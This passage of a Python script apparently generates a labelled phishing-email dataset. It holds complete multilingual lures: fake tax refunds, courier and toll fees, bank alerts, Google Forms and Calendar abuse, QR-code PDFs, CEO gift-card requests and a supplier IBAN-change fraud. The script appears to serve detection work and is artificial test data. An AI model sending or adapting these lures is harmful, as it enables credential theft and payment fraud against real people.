    kit(n, "ČSOB Identita AML re-verification lure from csob-overeni.com (own SPF/DKIM) linking to a banking credential page.",
        rx=CENTRUM, rcpt="martin.prochazka@centrum.cz", t=T("2023-10-10 16:33:27", "Europe/Prague"), frm=addr("ČSOB", "bezpecnost@csob-overeni.com"),
        subject="ČSOB Identita: nutné ověření do 24 hodin", html=kit_html("cs", "ČSOB", "#003366", title, paras, "Ověřit identitu", url, foot, 0),
        txt=plain(title, paras, "Ověřit identitu", url, [foot]), ip="45.95.169.212", helo="mail.csob-overeni.com")

    n = "cs-eznamka-renewal"
    url = "https://edalnice-cz.com/koupit?spz=renew"
    title = "Platnost Vaší dálniční známky končí"
    paras = ["Dobrý den,", "platnost elektronické dálniční známky pro vozidlo s registrační značkou <b>5A* ****</b> končí dne <b>14. 3. 2025</b>.",
             "Aby nedošlo k pokutě až do výše 5 000 Kč, doporučujeme zakoupit novou roční známku již nyní. Cena roční známky: 2 440 Kč."]
    foot = ["Elektronická dálniční známka – prodejní portál"]
    kit(n, "Fake e-známka renewal reminder from edalnice-cz.com imitating edalnice.cz, linking to a card-harvesting shop.",
        rx=GM, rcpt="lucie.vesela@gmail.com", t=T("2025-03-10 09:00:04", "Europe/Prague"), frm=addr("Dálniční známka", "info@edalnice-cz.com"),
        subject="Vaše dálniční známka vyprší 14. 3. 2025 – prodlužte ji včas",
        html=esp_html("cs", "eDalnice", "#1f6fb2", "https://edalnice.cz/assets/img/logo-edalnice.svg", title, paras, "Prodloužit známku", url, foot),
        txt=plain(title, paras, "Prodloužit známku", url, foot), ip="185.81.68.171", helo="mail.edalnice-cz.com")

    # Romania
    n = "ro-anaf-google-forms"
    t = T("2024-09-18 13:20:41", "UTC")
    name = "b18-phish-" + n
    form = f"https://docs.google.com/forms/d/e/1FAIpQLS{alnum(name + 'f', 48)}/viewform?usp=send_form"
    desc_ro = ("Stimate contribuabil, în urma verificării declarației unice pentru anul 2023, aveți de primit o rambursare de 1.284,00 lei. "
               "Completați formularul cu datele cardului pentru virarea sumei în 3 zile lucrătoare.")
    html = f"""<html><body style="font-family:Roboto,Arial,sans-serif;background:#f1f3f4;margin:0;padding:20px">
<div style="max-width:600px;margin:0 auto;background:#fff;border-radius:8px;padding:24px">
<div style="font-size:14px;color:#202124">V-am invitat să completați un formular:</div>
<div style="font-size:24px;color:#202124;margin:18px 0 8px 0">Notificare rambursare TVA – ANAF</div>
<div style="font-size:14px;color:#5f6368;line-height:20px">{desc_ro}</div>
<div style="margin:24px 0"><a href="{form}" style="background:#673ab7;color:#fff;padding:10px 24px;border-radius:4px;text-decoration:none;font-size:14px;font-weight:500">COMPLETAȚI FORMULARUL</a></div>
<div style="font-size:12px;color:#5f6368;border-top:1px solid #dadce0;padding-top:14px"><a href="https://docs.google.com/forms?usp=mail_form_link" style="color:#5f6368">Creați propriul formular Google</a><br>
Google nu a creat și nu aprobă acest conținut. <a href="https://docs.google.com/forms/u/0/d/e/1FAIpQLS{alnum(name + 'f', 48)}/reportabuse" style="color:#5f6368">Raportați abuzul</a></div>
</div></body></html>
"""
    txt = f"V-am invitat să completați un formular:\n\nNotificare rambursare TVA – ANAF\n\n{desc_ro}\n\nCOMPLETAȚI FORMULARUL: {form}\n\nCreați propriul formular Google: https://docs.google.com/forms?usp=mail_form_link\nGoogle nu a creat și nu aprobă acest conținut.\n"
    head = ["MIME-Version: 1.0", f"Reply-To: anaf.spv.notificari@gmail.com", f"X-No-Auto-Attachment: 1", "Message-ID: " + f"<{alnum(name + 'm', 22)}@google.com>",
            "Date: %DATE%", f"Subject: {enc('Notificare rambursare TVA – ANAF')}",
            f"From: {addr('ANAF - Spațiul Privat Virtual (via Google Forms)', 'forms-receipts-noreply@google.com')}", "To: andrei.popescu@gmail.com"]
    ip, host = google_ip(name)
    add("phishing", "phish", n, "ANAF refund form sent through genuine Google Forms (Google's SPF/DKIM/DMARC all pass, link on docs.google.com) asking for card data.",
        rx=GM, rcpt="andrei.popescu@gmail.com", t=t, ip=ip, helo=host, mailfrom=f"3{alnum(name + 'bo', 26)}@forms.bounces.google.com",
        dkim=("google.com", "20230601"), dmarc="pass", p="REJECT", head=head, body=Multi("alternative", boundary(name, "gmail"), [text(txt), text(html, "html")]))

    n = "ro-fancourier-fee"
    url = f"https://fancourier-ro.info/awb/2315547829061?pay={hx(n, 6)}"
    title = "Coletul dvs. este reținut"
    paras = ["Stimate client,", "Coletul dumneavoastră cu AWB <b>2315547829061</b> se află în depozitul nostru din Ștefăneștii de Jos și nu poate fi livrat deoarece taxa de livrare de <b>3,49 lei</b> nu a fost achitată.",
             "Vă rugăm să achitați taxa în cel mult 48 de ore. În caz contrar, coletul va fi returnat expeditorului."]
    foot = "FAN Courier Express SRL · București"
    kit(n, "FAN Courier unpaid-delivery-fee kit (3,49 lei) from fancourier-ro.info, unsigned but SPF pass.",
        rx=GM, rcpt="ioana.stan@gmail.com", t=T("2024-06-11 18:09:15", "Europe/Bucharest"), frm=addr("FAN Courier", "notificari@fancourier-ro.info"),
        subject="Coletul dvs. este reținut – taxă de livrare neachitată 3,49 lei", html=kit_html("ro", "FAN Courier", "#004990", title, paras, "Achită acum", url, foot, 1),
        txt=plain(title, paras, "Achită acum", url, [foot]), dkim=None, ip="77.91.78.117", helo="mail.fancourier-ro.info")

    n = "ro-ceo-fraud-iphone"
    t = T("2025-02-18 10:04:37", "Europe/Bucharest")
    name = "b18-phish-" + n
    txt = ("Bună ziua Elena,\n\nEști la birou? Am nevoie să faci un transfer urgent astăzi către un furnizor nou, pentru un avans la contractul de îngrășăminte. "
           "Sunt în ședință la Cluj și nu pot vorbi la telefon.\n\nConfirmă-mi pe mail și îți trimit imediat detaliile (IBAN și suma). "
           "Te rog să rămână între noi până finalizăm contractul.\n\nMulțumesc,\nMihai Crișan\nDirector General\n\nTrimis de pe iPhone\n")
    ip, host = google_ip(name)
    head = [f"From: {addr('Mihai Crișan', 'mihai.crisan.agrotrans@gmail.com')}", "Mime-Version: 1.0 (1.0)", "Date: %DATE%", "Subject: Urgent",
            f"Message-Id: <{uid(name).upper()}@gmail.com>", "To: contabilitate@agrotrans-bihor.ro", "X-Mailer: iPhone Mail (21D61)"]
    add("phishing", "phish", n, "CEO fraud in Romanian: the managing director's name on a new Gmail address asks the accountant for a confidential urgent transfer; no link, all authentication passes.",
        rx=HOSTICO, rcpt="contabilitate@agrotrans-bihor.ro", t=t, ip=ip, helo=host, mailfrom="mihai.crisan.agrotrans@gmail.com",
        dkim=GDKIM, dmarc="pass", p="NONE", head=head, body=text(txt), hlist=GMAIL_HL, spam=1.9)

    # Hungary
    n = "hu-magyarposta-customs"
    url = f"https://posta-csomagkovetes.com/hu/vam?id=CZ518203948HU&t={hx(n, 8)}"
    title = "Küldeménye vámkezelésre vár"
    paras = ["Tisztelt Ügyfelünk!", "A(z) <b>CZ518203948HU</b> azonosítójú nemzetközi küldeménye megérkezett Magyarországra, azonban a kézbesítéshez vámkezelési díj megfizetése szükséges.",
             "Fizetendő összeg: <b>1 290 Ft</b>. Amennyiben a díjat 5 napon belül nem rendezi, a küldeményt visszaküldjük a feladónak."]
    foot = "Magyar Posta Zrt. · 1138 Budapest, Dunavirág utca 2-6."
    kit(n, "Magyar Posta customs-fee kit (1 290 Ft) from posta-csomagkovetes.com with its own SPF/DKIM.",
        rx=FREEMAIL, rcpt="kovacs.eva@freemail.hu", t=T("2023-11-07 15:26:41", "Europe/Budapest"), frm=addr("Magyar Posta", "ertesites@posta-csomagkovetes.com"),
        subject="Küldeménye vámkezelésre vár – fizetendő: 1 290 Ft", html=kit_html("hu", "Magyar Posta", "#c8102e", title, paras, "Díj befizetése", url, foot, 0),
        txt=plain(title, paras, "Díj befizetése", url, [foot]), ip="185.234.216.99", helo="mail.posta-csomagkovetes.com")

    n = "hu-otp-calendar-invite"
    t = T("2024-10-15 20:11:08", "UTC")
    name = "b18-phish-" + n
    org = "otp.biztonsagi.kozpont@gmail.com"
    ev_title = "Sürgős: OTP Bank biztonsági ellenőrzés – hívja: +36 1 999 4817"
    descr = ("Tisztelt Ügyfelünk! Bankkártyájával gyanús tranzakciót kíséreltek meg (189 990 Ft, Alza.hu). A tranzakció felfüggesztése érdekében "
             "haladéktalanul hívja biztonsági osztályunkat a +36 1 999 4817 számon, vagy ellenőrizze fiókját: https://otp-biztonsag.hu-ellenorzes.com")
    ics_uid = f"{alnum(name + 'u', 26).lower()}@google.com"
    ics = ("BEGIN:VCALENDAR\r\nPRODID:-//Google Inc//Google Calendar 70.9054//EN\r\nVERSION:2.0\r\nCALSCALE:GREGORIAN\r\nMETHOD:REQUEST\r\n"
           "BEGIN:VEVENT\r\nDTSTART:20241016T070000Z\r\nDTEND:20241016T073000Z\r\nDTSTAMP:20241015T201108Z\r\n"
           f"ORGANIZER;CN=OTP Bank Biztonsági Központ:mailto:{org}\r\nUID:{ics_uid}\r\n"
           "ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=szabo.gabor@gmail.com;X-NUM-GUESTS=0:mailto:szabo.gabor@gmail.com\r\n"
           "CREATED:20241015T201107Z\r\n"
           f"DESCRIPTION:{descr.replace(',', chr(92) + ',')}\r\n"
           "LAST-MODIFIED:20241015T201107Z\r\nLOCATION:\r\nSEQUENCE:0\r\nSTATUS:CONFIRMED\r\n"
           f"SUMMARY:{ev_title.replace(',', chr(92) + ',')}\r\nTRANSP:OPAQUE\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
    subj = f"Meghívó: {ev_title} - 2024. okt. 16., szerda 9:00 - 9:30 (CEST) (szabo.gabor@gmail.com)"
    gtxt = (f"{ev_title}\nSzerda 2024. október 16. ⋅ 9:00 – 9:30\nKözép-európai nyári idő - Budapest\n\n{descr}\n\n"
            f"Szervező\n{org}\n\nVendégek\n{org} - szervező\nszabo.gabor@gmail.com\n\nMeghívó a Google Naptárból: https://calendar.google.com/calendar/\n")
    ghtml = (f'<div style="font-family:Roboto,Arial,sans-serif;color:#3c4043"><h2 style="font-weight:400;font-size:22px">{ev_title}</h2>'
             '<p>Szerda 2024. október 16. ⋅ 9:00 – 9:30 (Közép-európai nyári idő - Budapest)</p>'
             f'<p style="white-space:pre-wrap">{descr.replace("https://otp-biztonsag.hu-ellenorzes.com", chr(60) + "a href=" + chr(34) + "https://www.google.com/url?q=https://otp-biztonsag.hu-ellenorzes.com&amp;sa=D&amp;source=calendar" + chr(34) + ">https://otp-biztonsag.hu-ellenorzes.com</a>")}</p>'
             f'<p>Szervező: {org}</p><p><a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={alnum(name + "eid", 60)}&amp;rst=1">Igen</a> · '
             f'<a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={alnum(name + "eid", 60)}&amp;rst=2">Nem</a> · '
             f'<a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={alnum(name + "eid", 60)}&amp;rst=3">Talán</a></p>'
             '<p style="font-size:11px;color:#70757a">Meghívó a Google Naptárból. Azért kapta ezt az e-mailt, mert vendégként szerepel az eseményen.</p></div>\n')
    cal = Leaf("text/calendar", ics.encode(), "base64", '; charset="UTF-8"; method=REQUEST')
    body = Multi("mixed", boundary(name + "m", "gmail"), [
        Multi("alternative", boundary(name + "a", "gmail"), [text(gtxt, "plain", "base64"), text(ghtml, "html", "quoted-printable"), cal]),
        Leaf("application/ics", ics.encode(), "base64", '; name="invite.ics"', 'attachment; filename="invite.ics"')])
    head = ["MIME-Version: 1.0", f"Reply-To: {addr('OTP Bank Biztonsági Központ', org)}", "Sender: Google Calendar <calendar-notification@google.com>",
            "Auto-Submitted: auto-generated", f"Message-ID: <calendar-{uid(name)}@google.com>", "Date: %DATE%",
            f"Subject: {enc(subj)}", f"From: {addr('OTP Bank Biztonsági Központ', org)}", "To: szabo.gabor@gmail.com"]
    ip, host = google_ip(name)
    add("phishing", "phish", n, "Google Calendar invitation from a Gmail account posing as OTP Bank security (genuine Google infrastructure, everything passes): the event title and description carry a callback number and a phishing link.",
        rx=GM, rcpt="szabo.gabor@gmail.com", t=t, ip=ip, helo=host, mailfrom=f"3{alnum(name + 'b', 30)}@calendar-server.bounces.google.com",
        dkim=GDKIM, dmarc="pass", p="NONE", head=head, body=body, hlist=GMAIL_HL)

    n = "hu-ugyfelkapu-plus-nav-refund"
    url = "https://ugyfelkapu-nav.org/ugyfelkapuplusz/belepes"
    title = "Adó-visszatérítés"
    paras = ["Tisztelt Adózó!", "A 2024. évi személyijövedelemadó-bevallás feldolgozása során megállapítottuk, hogy Önt <b>48 350 Ft</b> adó-visszatérítés illeti meg.",
             "Mivel a régi Ügyfélkapu 2025. január 16-án megszűnt, a visszatérítés kiutalásához azonosítania kell magát az új Ügyfélkapu+ rendszerben, és meg kell adnia bankkártyája adatait."]
    foot = ["Nemzeti Adó- és Vámhivatal · 1054 Budapest, Széchenyi utca 2."]
    kit(n, "NAV tax-refund lure exploiting the real 2025 Ügyfélkapu to Ügyfélkapu+ migration; registered lookalike with own SPF/DKIM, asks for login and card data.",
        rx=CITRO, rcpt="toth.zsuzsanna@citromail.hu", t=T("2025-04-22 08:44:20", "Europe/Budapest"), frm=addr("NAV – Ügyfélkapu+", "ertesito@ugyfelkapu-nav.org"),
        subject="Adó-visszatérítés: Ügyfélkapu+ azonosítás szükséges",
        html=esp_html("hu", "NAV", "#1b365d", "https://nav.gov.hu/static/img/nav-logo.png", title, paras, "Azonosítás Ügyfélkapu+ fiókkal", url, foot),
        txt=plain(title, paras, "Azonosítás Ügyfélkapu+ fiókkal", url, foot), ip="176.111.174.26", helo="mail.ugyfelkapu-nav.org")

    n = "hu-hugo-toll-surcharge"
    url = f"https://hugo-dijfizetes.com/rendezes?rsz=AEX412&k={hx(n, 6)}"
    title = "Pótdíjfizetési felszólítás"
    paras = ["Tisztelt Üzembentartó!", "Rendszerünk szerint az <b>AEX-412</b> rendszámú gépjármű 2024. január 18-án az M1 autópálya 23+000 km szelvényében érvényes útdíj-jogosultság nélkül közlekedett.",
             "A pótdíj kiszabásának elkerülése érdekében kérjük, 72 órán belül rendezze az elmaradt útdíjat (<b>4 875 Ft</b>) az alábbi hivatkozáson."]
    foot = "Nemzeti Útdíjfizetési Szolgáltató Zrt. · HU-GO rendszer"
    kit(n, "HU-GO toll surcharge demand to a small haulage firm from a domain with no SPF, DKIM or DMARC at all.",
        rx=RACKHOST, rcpt="info@nagy-fuvar.hu", t=T("2024-01-23 10:30:05", "Europe/Budapest"), frm=addr("HU-GO Ügyfélszolgálat", "ugyfelszolgalat@hugo-dijfizetes.com"),
        subject="HU-GO: pótdíjfizetési felszólítás – AEX-412", html=kit_html("hu", "HU-GO", "#00529b", title, paras, "Útdíj rendezése", url, foot, 2),
        txt=plain(title, paras, "Útdíj rendezése", url, [foot]), dkim=None, spf="none", ip="94.156.64.218", helo="vm218.hugo-dijfizetes.com", spam=7.5)


# ============================================================================= attacks: Turkey and the Gulf

def attacks_tr_gulf():
    n = "tr-edevlet-vergi-iadesi"
    url = "https://turkiye-gov-tr.com/vergi-iadesi/giris"
    title = "Vergi İadesi Bildirimi"
    paras = ["Sayın Vatandaşımız,", "Gelir İdaresi Başkanlığı kayıtlarına göre 2023 yılına ait fazla ödenen vergi nedeniyle adınıza <b>2.845,60 TL</b> tutarında iade tahakkuk etmiştir.",
             "İade tutarının hesabınıza aktarılabilmesi için e-Devlet şifreniz ile giriş yaparak banka kartı bilgilerinizi doğrulamanız gerekmektedir. Başvurular 3 gün içinde yapılmadığı takdirde iade işlemi iptal edilecektir."]
    foot = ["T.C. Cumhurbaşkanlığı Dijital Dönüşüm Ofisi · e-Devlet Kapısı"]
    kit(n, "e-Devlet tax-refund lure from turkiye-gov-tr.com (own SPF/DKIM) asking for the e-Devlet password and card details.",
        rx=OUTL, rcpt="ahmet.yilmaz@hotmail.com", t=T("2024-05-06 11:15:00", "Europe/Istanbul"), frm=addr("e-Devlet Kapısı", "bilgilendirme@turkiye-gov-tr.com"),
        subject="Vergi iadesi: 2.845,60 TL hesabınıza aktarılmayı bekliyor",
        html=esp_html("tr", "e-Devlet Kapısı", "#c8102e", "https://cdn.e-devlet.gov.tr/themes/izmir/images/logo.png", title, paras, "İade Başvurusu Yap", url, foot),
        txt=plain(title, paras, "İade Başvurusu Yap", url, foot), ip="185.225.74.18", helo="mail.turkiye-gov-tr.com")

    n = "tr-yurtici-gumruk"
    url = f"https://yurtici-kargotakip.com/odeme?takip=738192045517&r={hx(n, 6)}"
    title = "Gönderiniz gümrükte bekliyor"
    paras = ["Sayın Müşterimiz,", "<b>738192045517</b> takip numaralı yurt dışı gönderiniz gümrük işlemleri nedeniyle bekletilmektedir. Teslimatın yapılabilmesi için <b>48,90 TL</b> gümrük ve hizmet bedelinin ödenmesi gerekmektedir.",
             "Ödeme 2 iş günü içinde yapılmazsa gönderiniz göndericiye iade edilecektir."]
    foot = "Yurtiçi Kargo Servisi A.Ş. · Bu e-posta otomatik olarak gönderilmiştir."
    kit(n, "Yurtiçi Kargo customs-fee kit (48,90 TL) from yurtici-kargotakip.com with its own SPF/DKIM.",
        rx=GM, rcpt="zeynep.kaya@gmail.com", t=T("2023-12-18 13:02:44", "Europe/Istanbul"), frm=addr("Yurtiçi Kargo", "bilgilendirme@yurtici-kargotakip.com"),
        subject="Gönderiniz gümrükte bekliyor – 48,90 TL gümrük ücreti", html=kit_html("tr", "Yurtiçi Kargo", "#0047ba", title, paras, "Ödeme Yap ve Takip Et", url, foot, 0),
        txt=plain(title, paras, "Ödeme Yap ve Takip Et", url, [foot]), ip="195.133.40.17", helo="mail.yurtici-kargotakip.com")

    n = "tr-garanti-bonus-expiry"
    url = "https://garantibbva-bonus.net/puan/aktar?m=TR"
    title = "Bonus puanlarınızın süresi doluyor"
    paras = ["Değerli Müşterimiz,", "Bonus kartınızda kullanılmayan <b>1.742 Bonus</b> puanınızın son kullanım tarihi <b>31.01.2024</b>'tür. Bu tarihe kadar puanlarınızı nakit iade olarak hesabınıza aktarabilirsiniz.",
             "Aktarım için kart bilgilerinizi doğrulamanız yeterlidir."]
    foot = ["Garanti BBVA · Levent Nispetiye Mah. Aytar Cad. No:2 34340 Beşiktaş/İstanbul"]
    kit(n, "Garanti BBVA bonus-points-expiring lure (own SPF/DKIM on garantibbva-bonus.net) leading to a card-verification page.",
        rx=GM, rcpt="mehmet.demir@gmail.com", t=T("2024-01-27 19:45:33", "Europe/Istanbul"), frm=addr("Garanti BBVA Bonus", "bonus@garantibbva-bonus.net"),
        subject="Bonus puanlarınız 31 Ocak'ta silinecek: 1.742 puan",
        html=esp_html("tr", "Garanti BBVA", "#1a9f4c", "https://www.garantibbva.com.tr/content/dam/public/garantibbva/logo.svg", title, paras, "Puanlarımı Aktar", url, foot),
        txt=plain(title, paras, "Puanlarımı Aktar", url, foot), ip="185.117.90.212", helo="mail.garantibbva-bonus.net", dkim=("garantibbva-bonus.net", "k1"))

    n = "tr-sahibinden-paramguvende-buyer"
    txt = ("Merhaba Burak Bey,\n\nsahibinden.com'daki PlayStation 5 Slim ilanınızı satın almak istiyorum, ödemeyi S - Param Güvende sistemi üzerinden yaptım (16.500 TL). "
           "Para sistemde bekliyor, kargoya verdikten sonra hesabınıza geçecek.\n\nÖdemeyi onaylamanız ve kargo kodunu almanız için şu bağlantıyı kullanmanız gerekiyor:\n"
           "https://sahibinden-paramguvende.com/onay/481922\n\nOnayladıktan sonra bana yazarsanız sevinirim, şehir dışındayım o yüzden kargo ile almak istiyorum.\n\nİyi günler,\nEmre\n")
    gmail_send("phishing", "phish", n, "Sahibinden 'Param Güvende' buyer scam from Gmail (passes everything) sending the seller to a fake escrow confirmation page.",
               rx=OUTL, rcpt="burak.celik@outlook.com", t=T("2024-03-14 16:27:09", "Europe/Istanbul"), frm=addr("Emre Aydın", "emre.aydin.3471@gmail.com"),
               to="burak.celik@outlook.com", subject="PlayStation 5 ilanınız hk.", body=gtext(n, txt))

    n = "tr-supplier-iban-compromised"
    txt = ("Merhaba Ayşe Hanım,\n\nŞirketimizin banka hesap bilgileri 01.06.2025 itibarıyla değişmiştir. Mevcut Halkbank hesabımız iç denetim süreci nedeniyle geçici olarak işlemlere kapatılmıştır.\n\n"
           "Bu nedenle 2025/0412 ve 2025/0437 numaralı faturalarımıza ait toplam 412.860,00 TL tutarındaki ödemenizi aşağıdaki hesabımıza yapmanızı rica ederiz:\n\n"
           "Banka: QNB Finansbank\nHesap Adı: Özkan İplik San. ve Tic. A.Ş.\nIBAN: TR62 0011 1000 0000 0098 4417 25\n\n"
           "Ödeme dekontunu bu e-posta adresine iletebilirseniz seviniriz. Muhasebe hattımız bu hafta bakımda olduğundan lütfen e-posta ile dönüş yapınız.\n\n"
           "Saygılarımızla,\n\nSelin Korkmaz\nMuhasebe ve Finans\nÖzkan İplik San. ve Tic. A.Ş.\nKayseri Organize Sanayi Bölgesi 4. Cadde No:18, Kayseri\nT: +90 352 321 44 18\n")
    o365_send("phishing", "phish", n, "Supplier IBAN-change fraud sent from the supplier's genuinely compromised Microsoft 365 mailbox (SPF/DKIM/DMARC pass) with a Reply-To on the lookalike ozkan-lplik.com.tr; no link.",
              rx=("ms", "eurprd02"), rcpt="muhasebe@aksoy-tekstil.com.tr", t=T("2025-06-03 10:22:41", "Europe/Istanbul"),
              frm=addr("Selin Korkmaz", "selin.korkmaz@ozkan-iplik.com.tr"), to=addr("Ayşe Aksoy", "muhasebe@aksoy-tekstil.com.tr"),
              subject="Banka Hesap Bilgilerimiz Hk.", lang="tr-TR", txt=txt, region="eurprd06", scl=1,
              extra=[f"Reply-To: {addr('Selin Korkmaz', 'selin.korkmaz@ozkan-lplik.com.tr')}"])

    n = "ae-salik-unpaid-bilingual"
    url = f"https://salik-dubai.com/pay?ref=AE{num(n, 100000, 999999)}"
    title = "Salik – Unpaid toll | سالك – رسوم غير مدفوعة"
    paras = ['<div dir="rtl" style="text-align:right">عزيزي العميل،</div>',
             '<div dir="rtl" style="text-align:right">لديك رسوم مرور غير مدفوعة بقيمة <b>50 درهم</b> مسجلة على لوحة مركبتك. يرجى السداد خلال 24 ساعة لتجنب غرامة إضافية قدرها 400 درهم.</div>',
             "Dear Customer, you have an unpaid toll balance of <b>AED 50.00</b> registered to your vehicle plate. Please settle it within 24 hours to avoid an additional fine of AED 400."]
    foot = ["Salik Company PJSC, Dubai, United Arab Emirates"]
    kit(n, "Bilingual Arabic/English Salik unpaid-toll lure from salik-dubai.com (own SPF/DKIM) with a 400 AED fine threat.",
        rx=GM, rcpt="rashid.almansoori@gmail.com", t=T("2025-02-03 09:15:00", "Asia/Dubai"), frm=addr("Salik", "notifications@salik-dubai.com"),
        subject="سالك: لديك رسوم مرور غير مدفوعة | Salik: Unpaid toll",
        html=esp_html("ar", "Salik", "#00a19a", "https://www.salik.ae/-/media/project/salik/logo.svg", title, paras, "ادفع الآن | Pay Now", url, foot),
        txt=plain(title, paras, "Pay Now", url, foot), ip="91.132.92.86", helo="mail.salik-dubai.com")

    n = "sa-absher-update"
    url = "https://absher-sa.net/update/login"
    title = "تحديث البيانات"
    paras = ["عزيزي المستفيد،", "نود إشعاركم بأن بيانات هويتكم الوطنية في منصة أبشر بحاجة إلى تحديث وفقاً للتعليمات الجديدة لوزارة الداخلية.",
             "في حال عدم التحديث خلال 48 ساعة سيتم إيقاف الخدمات الإلكترونية المرتبطة بحسابكم مؤقتاً."]
    foot = "وزارة الداخلية - المملكة العربية السعودية. هذه رسالة آلية، يرجى عدم الرد عليها."
    kit(n, "Arabic Absher data-update lure (unsigned, SPF pass for absher-sa.net) threatening suspension of e-services.",
        rx=OUTL, rcpt="fahad.alqahtani@hotmail.com", t=T("2024-07-21 12:02:17", "Asia/Riyadh"), frm=addr("أبشر", "no-reply@absher-sa.net"),
        subject="أبشر: يرجى تحديث بياناتك لتجنب إيقاف الخدمات", html=kit_html("ar", "أبشر", "#00894c", title, paras, "تحديث البيانات", url, foot, 0, rtl=True),
        txt=plain(title, paras, "تحديث البيانات", url, [foot]), dkim=None, ip="179.43.187.44", helo="mail.absher-sa.net")

    n = "ae-aramex-customs-qr-pdf"
    t = T("2024-11-04 13:40:09", "Asia/Dubai")
    name = "b18-phish-" + n
    pdfdata = pdf_qr(["ARAMEX - Customs Duty Notice", "AWB: 4417285503", "Consignee: Priya Nair, Dubai", "Origin: Shenzhen, CN  |  Weight: 1.2 kg", "",
                      "Customs duty and VAT outstanding: AED 27.50", "", "Your shipment is held at the Aramex Dubai hub (Al Quoz).",
                      "Scan the QR code below with your phone camera to pay and", "schedule delivery. Unpaid shipments are returned after 5 days."],
                     "https://aramex-deliveryae.com/pay?awb=4417285503", "Aramex Customs Notice")
    txt = ("Dear Customer,\n\nPlease find attached the customs duty notice for your shipment AWB 4417285503. Kindly scan the QR code in the document to complete the payment.\n\n"
           "Regards,\nAramex Customer Service\n")
    html = "<p>Dear Customer,</p><p>Please find attached the customs duty notice for your shipment AWB 4417285503. Kindly scan the QR code in the document to complete the payment.</p><p>Regards,<br>Aramex Customer Service</p>"
    kit(n, "Aramex customs-duty notice whose PDF carries only a QR code to aramex-deliveryae.com; the mail body has no link.",
        rx=ETISALAT, rcpt="priya.nair@emirates.net.ae", t=t, frm=addr("Aramex", "shipping@aramex-deliveryae.com"),
        subject="Action required: customs duty for shipment AWB 4417285503", html=html, txt=txt, mailer=None, bstyle="other",
        attach=[attachment("application/pdf", "Aramex_Customs_AWB_4417285503.pdf", pdfdata)], ip="103.75.119.40", helo="mail.aramex-deliveryae.com")

    n = "ae-ceo-giftcards"
    txt = ("Hi Rania,\n\nAre you at your desk? I need you to handle something for me discreetly today. I'm in a meeting with the bank and can't take calls.\n\n"
           "I need 10 Apple gift cards of AED 500 each for some client appreciation gifts. Can you purchase them from Virgin Megastore or online and send me pictures of the codes on the back? "
           "I will reimburse you today.\n\nLet me know ASAP.\n\nKhalid\nSent from my iPhone\n")
    gmail_send("phishing", "phish", n, "Gift-card CEO fraud: the chairman's name on a Gmail address asks the accounts clerk for ten AED 500 Apple cards; no link, all authentication passes.",
               rx=("ms", "eurprd07"), rcpt="accounts@gulfline-trading.ae", t=T("2024-12-10 09:12:55", "Asia/Dubai"),
               frm="Khalid Al Suwaidi <k.alsuwaidi.office@gmail.com>", to="accounts@gulfline-trading.ae", subject="Quick task", body=gtext(n, txt), scl=1)

    n = "ae-emiratespost-fee"
    url = "https://emiratespost-track.com/ae/pay?id=EP71902844AE"
    title = "شحنتك قيد الانتظار"
    paras = ["عزيزي العميل،", "شحنتك رقم <b>EP71902844AE</b> بانتظار التسليم بسبب عدم سداد رسوم الشحن البالغة <b>12.50 درهم</b>. يرجى السداد خلال 48 ساعة وإلا سيتم إعادة الشحنة إلى المرسل.",
             "Dear customer, your shipment EP71902844AE is awaiting delivery due to an unpaid shipping fee of AED 12.50."]
    foot = "© 2023 Emirates Post Group"
    kit(n, "Emirates Post unpaid shipping-fee kit in Arabic and English from emiratespost-track.com with its own SPF/DKIM.",
        rx=OUTL, rcpt="mariam.alhashimi@outlook.com", t=T("2023-09-26 11:34:00", "UTC"), frm=addr("Emirates Post", "info@emiratespost-track.com"),
        subject="بريد الإمارات: شحنتك قيد الانتظار – رسوم 12.50 درهم", html=kit_html("ar", "بريد الإمارات | Emirates Post", "#c8102e", title, paras, "ادفع الرسوم / Pay fee", url, foot, 1, rtl=True),
        txt=plain(title, paras, "Pay fee", url, [foot]), ip="45.153.34.120", helo="mail.emiratespost-track.com")

    n = "sa-smsa-customs-pdf-link"
    t = T("2025-05-19 10:11:51", "Asia/Riyadh")
    pdfdata = pdf_doc(["SMSA Express - Customs Clearance Invoice", "", "AWB No: 290488174563", "Consignee: Abdullah Alharbi, Riyadh",
                       "Customs duties & VAT (15%): SAR 38.75", "", "Payment must be completed within 48 hours", "to avoid return of the shipment to origin.",
                       "Click the button below to review the invoice and pay online."], "SMSA Invoice",
                      producer="Skia/PDF m124", link=("https://smsa-express-sa.com/customs/pay?awb=290488174563", (180, 560, 415, 600)))
    txt = "عميلنا العزيز،\n\nمرفق فاتورة الرسوم الجمركية الخاصة بشحنتك رقم 290488174563. يرجى مراجعة الفاتورة وسداد الرسوم خلال 48 ساعة لتجنب إعادة الشحنة.\n\nمع تحيات،\nسمسا إكسبرس\n"
    html = ('<div dir="rtl" style="font-family:Tahoma,Arial;font-size:14px">' + "".join(f"<p>{htmlmod.escape(x)}</p>" for x in txt.strip().split("\n\n")) + "</div>")
    kit(n, "Arabic SMSA Express customs invoice: a PDF with a clickable 'review document' link to smsa-express-sa.com; own SPF/DKIM on the lookalike.",
        rx=GM, rcpt="abdullah.alharbi@gmail.com", t=t, frm=addr("SMSA Express", "customs@smsa-express-sa.com"),
        subject="فاتورة الرسوم الجمركية – شحنة رقم 290488174563", html=html, txt=txt,
        attach=[attachment("application/pdf", "SMSA_Customs_Invoice_290488174563.pdf", pdfdata)], ip="185.244.180.63", helo="mail.smsa-express-sa.com")

    n = "sa-alrajhi-spoof-mada"
    t = T("2024-02-12 22:47:06", "Asia/Riyadh")
    url = "https://alrajhi-update.sa-verify.com/mada"
    title = "تنبيه أمني"
    paras = ["عميلنا العزيز،", "تم إيقاف بطاقة مدى الخاصة بك مؤقتاً بسبب عدم تحديث بياناتك وفقاً لتعليمات البنك المركزي السعودي (ساما).",
             "لإعادة تفعيل البطاقة يرجى تحديث بياناتك عبر الرابط أدناه خلال 24 ساعة."]
    foot = "مصرف الراجحي - خدمة العملاء 920003344"
    kit(n, "Al Rajhi mada-card suspension notice spoofing alrajhibank.com.sa from a compromised web server (no SPF for the envelope, unsigned, DMARC fail, delivered to junk).",
